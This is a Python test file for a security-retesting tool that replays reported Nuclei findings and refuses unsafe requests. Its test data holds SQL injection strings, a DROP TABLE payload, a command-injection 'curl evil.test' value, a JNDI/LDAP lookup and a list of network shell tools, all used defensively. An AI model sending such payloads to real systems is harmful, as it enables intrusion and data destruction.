"""Findings that are tried again: mended, still there, or not decided; and nothing is sent that must not be."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.controls.proving.shop import HEAD, Shop, named, run, surface_in
from tests.prove.scripted import Asked, Said, allowed, refused

from assay.controls.security_testing.prove import _OUTSIDE, prove
from assay.prove.case import Case
from assay.prove.surface import Surface

LEAK = {"items": [{"id": "order-of-somebody", "note": "what she wrote"}]}


def result(**more: Any) -> dict[str, Any]:
    """A result of Nuclei about `GET /orders`, as the caller of an account saw it."""
    request = more.pop("request", "GET /orders?search=%27+OR+1%3D1 HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n")
    target = request.split(" ")[1]
    return {
        "template-id": "sqli",
        "info": {"name": "SQL injection", "severity": "high"},
        "matched-at": f"https://elsewhere.test{target}",
        "request": request,
        "response": f"HTTP/1.1 200 OK\r\n\r\n{json.dumps(LEAK)}",
        **more,
    }


def retest(folder: Path, *results: dict[str, Any], **more: Any) -> tuple[Surface, list[Case]]:
    folder.mkdir(exist_ok=True)
    text = "".join(json.dumps(r) + "\n" for r in results)
    (folder / "found.jsonl").write_text(text)
    digest = hashlib.sha256(text.encode()).hexdigest()
    files = f"[{{file: found.jsonl, format: nuclei, sha256: {digest}}}]"
    test = f"    pen_test: {{last: 2026-05-02, by: third-party, findings: {files}}}\n"
    head = HEAD.replace("    exposure: internal\n", "    exposure: internal\n" + test)
    surface = surface_in(folder, head=head, **{"via": "gateway", "fronted": True, **more})
    return surface, named(list(prove(surface)), "reported-finding-still-works")


def attacked(answer: Said, ordinary: Said | None = None) -> Shop:
    """A shop that answers the attack like this, and everything else like an honest one."""

    def answers(asked: Asked) -> Said | None:
        if "OR" in asked.target or "%27" in asked.target:
            return answer
        return ordinary or (allowed({"items": []}) if asked.path == "/orders" else None)

    return Shop(wants=answers)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (refused("input_validation/injection", 400), "pass"),
        (allowed(LEAK), "fail"),
        (allowed({"items": []}), "inconclusive"),
        (allowed({"error": "no"}, 400), "inconclusive"),
        (refused("authentication/token", 401), "inconclusive"),
        (refused("network_ranges/allow", 403), "inconclusive"),
        (refused("layered_architecture/layer", 403), "inconclusive"),
        (refused("rate_limiting/limit", 429), "inconclusive"),
        (Said(0, error="reset"), "inconclusive"),
        (Said(400, {}), "inconclusive"),
    ],
    ids=[
        "refused by policy",
        "same content",
        "another content",
        "refused by the service",
        "the caller was refused",
        "its network was refused",
        "its layer was refused",
        "a limit",
        "no answer",
        "refused, and nobody says by whom",
    ],
)
def test_a_finding_is_mended_only_when_a_policy_refuses_it(tmp_path: Path, answer: Said, expected: str) -> None:
    surface, cases = retest(tmp_path / "s", result())
    judged = run(cases[0], attacked(answer), surface)
    assert str(judged.outcome) == expected, judged.sentence


def test_a_policy_that_only_observes_is_named(tmp_path: Path) -> None:
    surface, cases = retest(tmp_path / "s", result())
    judged = run(cases[0], attacked(allowed(LEAK, 200, "rule", "input_validation/injection")), surface)
    assert str(judged.outcome) == "fail" and "`input_validation/injection`" in judged.sentence


def test_content_that_everybody_sees_anyway_shows_nothing(tmp_path: Path) -> None:
    surface, cases = retest(tmp_path / "s", result())
    judged = run(cases[0], attacked(allowed(LEAK), allowed(LEAK)), surface)
    assert str(judged.outcome) == "inconclusive"


def test_when_nobody_can_call_the_operation_nothing_is_claimed(tmp_path: Path) -> None:
    surface, cases = retest(tmp_path / "s", result())
    judged = run(cases[0], attacked(refused("input_validation/injection"), Said(503, {})), surface)
    assert str(judged.outcome) == "inconclusive"


def test_only_the_declared_target_is_asked_and_no_reported_credential_is_sent(tmp_path: Path) -> None:
    asked: list[Asked] = []

    def note(call: Asked) -> Said:
        asked.append(call)
        return allowed({"items": []})

    surface, cases = retest(tmp_path / "s", result())
    run(cases[0], Shop(wants=note), surface)
    assert [a.target for a in asked] == ["/orders", "/orders?search=%27+OR+1%3D1"]
    assert all("abc" not in a.headers.get("authorization", "") for a in asked)


@pytest.mark.parametrize(
    ("request_line", "why"),
    [
        ("GET /orders?search=http://evil.test/x", "another host"),
        ("GET /orders?search=%2568ttp%253A%252F%252Fevil.test", "another host"),
        ("GET /orders?search=//evil.test/x", "another host"),
        ("GET /orders?search=%3Bcurl%20evil.test", "another host"),
        ("GET /orders?search=%24%7Bjndi:ldap://x%7D", "another host"),
        ("POST /orders", "may change"),
        ("GET /orders?search=';DROP+TABLE+orders", "may change"),
        ("GET /orders?access_token=0123456789abcdef", "held secrets"),
    ],
)
def test_what_may_not_be_sent_is_not_sent_and_said(tmp_path: Path, request_line: str, why: str) -> None:
    asked: list[Asked] = []

    def note(call: Asked) -> Said:
        asked.append(call)
        return allowed({})

    entry = result(request=f"{request_line} HTTP/1.1\r\n\r\n")
    surface, cases = retest(tmp_path / "s", entry, allow_writes=False)
    judged = run(cases[0], Shop(wants=note), surface)
    assert str(judged.outcome) == "inconclusive" and why in judged.sentence
    assert asked == []


def test_a_finding_without_its_request_is_not_reached(tmp_path: Path) -> None:
    entry = result()
    del entry["request"]
    surface, cases = retest(tmp_path / "s", {**entry, "matched-at": "https://x.test/report"})
    judged = run(cases[0], Shop(), surface)
    assert str(judged.outcome) == "inconclusive" and "does not hold the request" in judged.sentence


def test_an_id_becomes_that_of_an_object_that_exists_unless_it_was_attacked(tmp_path: Path) -> None:
    def asked_for(**more: Any) -> str:
        asked: list[str] = []

        def note(call: Asked) -> None:
            asked.append(call.target)

        line = "GET /orders/o-9?x=%27 HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n"
        surface, cases = retest(tmp_path / "s", result(request=line, **more))
        run(cases[0], Shop(wants=note), surface)
        return asked[-1]

    assert asked_for() == "/orders/app-1?x=%27"
    assert asked_for(fuzzing_parameter="orderId") == "/orders/o-9?x=%27"


def test_nothing_is_planned_without_findings(tmp_path: Path) -> None:
    assert list(prove(surface_in(tmp_path / "plain"))) == []


def test_writing_requests_are_planned_as_such(tmp_path: Path) -> None:
    _, cases = retest(tmp_path / "s", result(), result(request="POST /orders HTTP/1.1\r\n\r\n"))
    assert sorted(c.writes for c in cases) == [0, 3]


BARE = "GET /orders?search=%27 HTTP/1.1\r\n\r\n"
NOBODY = [refused("authentication/no-accepted-credential", 401), refused("authorisation/no-rule-allows", 403)]


@pytest.mark.parametrize(
    ("answer", "ordinary", "expected"),
    [
        (refused("input_validation/injection", 400), None, "pass"),
        (allowed(LEAK), None, "fail"),
        (allowed(LEAK), allowed(LEAK), "pass"),
        (allowed({"items": []}), None, "inconclusive"),
        (allowed({"items": []}, 400), None, "inconclusive"),
    ],
    ids=[
        "the request is refused, too",
        "it still works for callers",
        "callers are to see it, and nobody else does",
        "callers get nothing",
        "the service refuses",
    ],
)
@pytest.mark.parametrize("nobody", NOBODY, ids=["authentication", "authorisation"])
def test_a_report_without_credentials_is_not_mended_by_a_login_alone(
    tmp_path: Path, answer: Said, ordinary: Said | None, expected: str, nobody: Said
) -> None:
    def answers(asked: Asked) -> Said:
        if "%27" not in asked.target:
            return ordinary or allowed({"items": []})
        return answer if asked.bearer else nobody

    surface, cases = retest(tmp_path / "s", result(request=BARE))
    judged = run(cases[0], Shop(wants=answers), surface)
    assert str(judged.outcome) == expected, judged.sentence


@pytest.mark.parametrize("path", ["/report", "/", "/orders/o-1", "/ord%65rs%2f"])
def test_a_refusal_of_another_path_is_no_proof(tmp_path: Path, path: str) -> None:
    entry = {**result(request=f"GET {path}?x=%27 HTTP/1.1\r\n\r\n"), "matched-at": "https://x.test/orders"}
    surface, cases = retest(tmp_path / "s", entry)
    judged = run(cases[0], attacked(refused("api_gateway/not-in-contract", 404)), surface)
    assert str(judged.outcome) == "inconclusive" and "not the operation" in judged.sentence


@given(st.text("abcdefghijklmnopqrstuvwxyz0123456789 _-.,'=", max_size=40))
def test_ordinary_words_are_no_other_host(text: str) -> None:
    commands = ("curl", "wget", "ping", "nslookup", "dig", "nc", "telnet", "ssh", "ftp", "oast.")
    assert _OUTSIDE.search(text) is None or any(word in text for word in commands)
